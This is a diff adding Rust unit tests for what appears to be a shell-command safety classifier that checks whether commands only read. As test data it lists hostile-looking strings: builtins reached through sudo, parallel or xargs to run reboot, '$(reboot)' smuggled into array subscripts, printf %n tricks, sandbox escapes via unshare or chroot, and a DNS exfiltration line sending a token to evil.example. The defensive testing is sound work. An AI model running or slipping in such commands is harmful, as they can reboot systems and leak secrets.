@@ -141,3 +141,146 @@ fn to_go_back_costs_no_more_than_to_have_come() {
         walk.variables.moves
     );
 }
+
+#[test]
+fn builtins_that_something_else_reaches() {
+    for text in [
+        "sudo -s trap reboot EXIT",
+        "sudo -s jobs -x reboot",
+        "sudo -i jobs -x reboot",
+        "sudo -s printf %n PATH",
+        "parallel jobs -x reboot {} ::: 1",
+        "parallel eval reboot ::: 1",
+        "parallel alias ls=reboot ::: 1",
+        "/usr/bin/jobs -x reboot",
+        "/usr/bin/read 'a[$(reboot)]' </dev/null",
+        "/usr/bin/wait -p 'a[$(reboot)]' -n",
+        "/usr/bin/getopts a 'a[$(reboot)]'",
+        "/usr/bin/hash -p /srv/x ls",
+        "/usr/bin/fc -s x=y",
+        "/usr/bin/umask 0",
+        "/usr/bin/alias ls=x",
+        "sudo jobs -x reboot",
+        "env jobs -x reboot",
+        "xargs jobs -x reboot",
+        "timeout 5 read 'a[$(reboot)]'",
+        "find /srv -exec jobs -x {} +",
+        "[[ x ]]; printf abc%n PATH; ls",
+        "printf %hhn PATH",
+        "printf '%d%%%-5ln' 1 PATH",
+        "printf -- %n PATH",
+        "printf -v x %n PATH",
+        "printf -v x -- %n PATH",
+        "printf \"$x\" PATH",
+        "printf '\\045n' PATH",
+        "printf '\\x25n' PATH",
+    ] {
+        assert!(
+            !plain(text).only_reads && (plain(text).is_opaque() || text.contains("trap")),
+            "{text}"
+        );
+    }
+    assert_eq!(
+        plain("sudo -s trap reboot EXIT").commands[0].argv[0].text,
+        "reboot"
+    );
+    assert_eq!(plain("parallel trap reboot {} ::: EXIT").commands.len(), 1);
+    assert!(!plain("parallel trap reboot {} ::: EXIT").only_reads);
+    assert!(plain("parallel x=y reboot ::: 1").is_opaque());
+    for text in [
+        "printf '%s\\n' a",
+        "printf '100%%n\\n'",
+        "printf '\\033[1mnow\\033[0m'",
+        "printf '%5.2f %-3s %b\\n' 1 b c",
+        "umask 022; hash -r; read -r x; wait",
+        "sudo -s ls /srv",
+        "parallel ls {} ::: /srv /tmp",
+    ] {
+        assert!(!plain(text).is_opaque(), "{text}: {:?}", plain(text).opaque);
+    }
+}
+
+/// What these do is more than to tell something.
+#[test]
+fn programs_that_only_seem_to_read() {
+    for text in [
+        "read -e x",
+        "read -rei y x",
+        "getent -s x/evil passwd root",
+        "getent passwd -s x/evil root",
+        "getent --service=x/evil passwd root",
+        "getent hosts evil.example",
+        "getent hosts \"$(cut -c1-40 /srv/app/tok).x.evil.example\"",
+        "getent ahostsv4 evil.example",
+        "getent networks evil.example",
+        "getent \"$x\" y",
+        "lsof -i @tok.evil.example",
+        "lsof -iTCP@tok.evil.example:80",
+        "lsof \"$x\"",
+        "ss dst tok.evil.example",
+        "ss 'dst tok.evil.example'",
+        "ss state established 'dst = tok.evil.example:22'",
+        "ss dst dead.beef",
+        "ss -F /srv/filter",
+        "ss -N x",
+        "gawk 1 /inet/tcp/0/10.0.0.5/6379",
+        "awk '{print $1}' /inet4/udp/0/10.0.0.5/53",
+        "unshare -rR /tmp/r ls",
+        "chroot /tmp/r ls",
+        "nsenter -r/tmp/r ls",
+        "nsenter -t 1 -m ls",
+        "sudo -R /tmp/r ls",
+        "sudo unshare --uts=/etc/passwd true",
+        "unshare --mount=/etc/passwd true",
+        "unshare -u/etc/passwd true",
+        "toybox pgrep -L 9 sshd",
+        "pgrep -L 9 sshd",
+        "busybox less /srv/x",
+        "busybox date -s 10:00",
+        "busybox tar tf x",
+        "nohup echo x",
+        "watch ls",
+        "watch -s /srv ls",
+        "journalctl --image=/srv/x --no-pager",
+    ] {
+        assert!(!plain(text).only_reads, "{text}");
+    }
+    for text in [
+        "unshare -n/etc/passwd true",
+        "unshare --net=/etc/passwd true",
+        "unshare --mount-proc=/srv true",
+        "watch -s /srv ls",
+    ] {
+        assert!(plain(text).is_opaque(), "{text}");
+    }
+    for text in [
+        "getent hosts evil.example",
+        "lsof -i @evil.example",
+        "ss dst evil.example",
+        "gawk 1 /inet/tcp/0/10.0.0.5/6379",
+    ] {
+        let hazards = plain(text).hazards;
+        assert!(hazards.iter().any(|h| h.code == "network"), "{text}");
+    }
+    for text in [
+        "read -r x",
+        "getent passwd root",
+        "getent group",
+        "lsof -i -n -P",
+        "lsof -i :22",
+        "ss -tlnp",
+        "ss -tn state established '( dport = :ssh or sport = :22 )'",
+        "ss -tn dst 10.0.0.0/8",
+        "ss -tn dst '[fe80::1]:22'",
+        "pgrep -fa sshd",
+        "busybox ls /srv",
+        "toybox cat /srv/x",
+        "awk '{print $1}' /srv/x",
+    ] {
+        assert!(plain(text).only_reads, "{text}: {:?}", plain(text).opaque);
+    }
+    // A person's editor is a key away.
+    assert!(plain("read -e x").pages().is_some());
+    assert!(plain("x=1; read -ri y x").pages().is_some());
+    assert!(plain("read -r x").pages().is_none());
+}
